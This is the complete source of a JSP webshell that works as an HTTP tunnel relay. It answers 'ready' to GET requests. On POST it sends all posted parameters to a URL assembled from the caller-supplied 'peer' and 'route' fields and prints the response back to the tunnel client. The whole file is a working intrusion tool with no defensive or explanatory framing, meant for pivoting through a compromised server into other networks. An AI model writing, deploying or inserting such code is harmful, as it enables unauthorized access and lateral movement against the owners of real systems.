<%@ page import="java.net.*,java.io.*,java.util.*" contentType="text/plain; charset=utf-8" %><%!
    static String postOn(String target, byte[] body) {
        try {
            HttpURLConnection c = (HttpURLConnection) new URL(target).openConnection();
            c.setRequestMethod("POST");
            c.setDoOutput(true);
            c.setConnectTimeout(8000);
            c.getOutputStream().write(body);
            BufferedReader r = new BufferedReader(new InputStreamReader(c.getInputStream(), "UTF-8"));
            StringBuilder sb = new StringBuilder();
            String line;
            while ((line = r.readLine()) != null) sb.append(line);
            return sb.toString();
        } catch (Exception e) {
            return e.toString();
        }
    }
%><%
    // webshell side of an HTTP relay: every posted parameter is sent on to the service the request
    // names, the reply is printed back to the tunnel client
    if (!"POST".equals(request.getMethod())) { out.print("ready"); return; }
    String target = request.getParameter("peer") + request.getParameter("route");
    StringBuilder form = new StringBuilder();
    for (Enumeration<String> e = request.getParameterNames(); e.hasMoreElements(); ) {
        String k = e.nextElement();
        form.append(k).append('=').append(URLEncoder.encode(request.getParameter(k), "UTF-8")).append('&');
    }
    out.print(postOn(target, form.toString().getBytes("UTF-8")));
%>
